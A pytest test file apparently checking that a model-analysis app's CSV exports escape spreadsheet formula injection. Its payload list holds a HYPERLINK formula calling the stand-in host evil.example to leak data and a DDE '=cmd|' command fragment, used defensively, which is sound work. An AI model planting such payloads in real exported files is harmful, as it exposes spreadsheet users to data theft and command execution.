"""CSV formula injection (issue 20, item 6): words of a member's corpus reach other users' CSVs; every export
escapes text cells that a spreadsheet would run (OWASP: a leading ``'``), and numbers stay numbers.

A tiny model is trained and analysed on a corpus full of the red team's payloads; each export is reached
through Dash's dispatch, the way the browser asks for it, and read back with the csv module.
"""
from __future__ import annotations

import csv
import io
import random

import pytest

from analytics.settings import Settings
from app import ids
from app.cli import main
from app.logic.csv_export import escape_cell
from app.server import create_app
from tests.app.dispatching import dispatch

PAYLOADS = ['=hyperlink("http://evil.example/?leak","x")', "=cmd|'/c", "+sum(1,1)", "@sum(1,1)"]  # the 2nd: a
# corpus is split on spaces, so "=cmd|'/c calc'!a0" arrives as two words; the first one is the formula
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    from analytics.pipeline import AnalysisOptions, analyze_model
    from models.config import ModelConfig, TrainConfig
    from models.corpora import load_corpus
    from models.train import train_model

    rng = random.Random(0)
    words = ["the", "cat", "sat", "on", "a", "mat", "dog", "ran"] + PAYLOADS
    folder = tmp_path_factory.mktemp("hostile-corpus")
    for split, n in (("train", 300), ("valid", 40), ("test", 40)):
        lines = [" ".join(rng.choice(words) for _ in range(8)) for _ in range(n)]
        (folder / f"ptb.{split}.txt").write_text("\n".join(lines) + "\n")
    root = tmp_path_factory.mktemp("hostile-store") / "store"
    corpus = load_corpus(str(folder))
    train_model("evil", ModelConfig("lm", "lstm", 1, 8, 6), TrainConfig(epochs=1, batch_size=4, bptt=10), root,
                corpus=corpus, show_progress=False)
    analyze_model("evil", root, AnalysisOptions(batch_size=4, top_words=30, min_count=2, k_max=5, gradient_k=5),
                  corpus=corpus, show_progress=False)
    return root


@pytest.fixture(scope="module")
def app(hostile_store):
    app = create_app(Settings(store=hostile_store))
    assert app.server.test_client().get("/explore").status_code == 200   # registers the callbacks
    return app


def _cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_escaped(rows: list[list[str]], column: str) -> None:
    """No text cell of the CSV starts like a formula (numbers may be negative), and every payload is there,
    escaped, in ``column``."""
    assert not [c for row in rows for c in row if c.startswith(RISKY) and not _number(c)]
    values = {row[rows[0].index(column)] for row in rows[1:]}
    assert {"'" + p for p in PAYLOADS} <= values, values


def _download(app, output, values: dict, changed: str) -> str:
    out = dispatch(app, app.server.test_client(), output, values, changed)
    return out[(output, "data")]["content"]


def test_explore_cluster_and_detail_csvs_escape_formulas(app):
    view = {ids.EX_MODEL: "evil", ids.EX_LAYER: 0, ids.EX_STATE: "h", ids.EX_K: 3, ids.EX_WORDS: PAYLOADS}
    clusters = _download(app, ids.EX_DOWNLOAD, {**view, ids.EX_CSV_CLUSTERS: 1}, f"{ids.EX_CSV_CLUSTERS}.n_clicks")
    rows = _cells(clusters)
    _assert_escaped(rows, "word")
    strength = rows[0].index("strength")
    assert any(float(r[strength]) < 0 for r in rows[1:] if r[strength])   # negative numbers are still numbers
    detail = []   # the detail view shows a few words at a time
    for words in (PAYLOADS[:2], PAYLOADS[2:]):
        got = _cells(_download(app, ids.EX_DOWNLOAD, {**view, ids.EX_WORDS: words, ids.EX_CSV_DETAIL: 1},
                               f"{ids.EX_CSV_DETAIL}.n_clicks"))
        detail += got if not detail else got[1:]
    _assert_escaped(detail, "word")


def test_sql_console_csv_escapes_formulas_and_keeps_numbers(app):
    content = _download(app, ids.SQL_DOWNLOAD, {ids.SQL_CSV: 1, ids.SQL_LAST: "SELECT word FROM vocab"},
                        f"{ids.SQL_CSV}.n_clicks")
    _assert_escaped(_cells(content), "word")
    sql = "SELECT -1.5 AS neg, '-1.5' AS text, '\tx' AS tab, chr(13) || 'y' AS cr, '=1' AS \"=name\""
    rows = _cells(_download(app, ids.SQL_DOWNLOAD, {ids.SQL_CSV: 1, ids.SQL_LAST: sql}, f"{ids.SQL_CSV}.n_clicks"))
    assert rows == [["neg", "text", "tab", "cr", "'=name"], ["-1.5", "'-1.5", "'\tx", "'\ry", "'=1"]]


def test_cli_csv_escapes_formulas(hostile_store, capsys):
    assert main(["--store", str(hostile_store), "sql", "--format", "csv", "SELECT word FROM vocab"]) == 0
    _assert_escaped(_cells(capsys.readouterr().out), "word")


def test_escape_cell_leaves_numbers_and_plain_text():
    assert [escape_cell(v) for v in (-1, -1.5, None, "cat", "a=b", "@x")] == [-1, -1.5, None, "cat", "a=b", "'@x"]
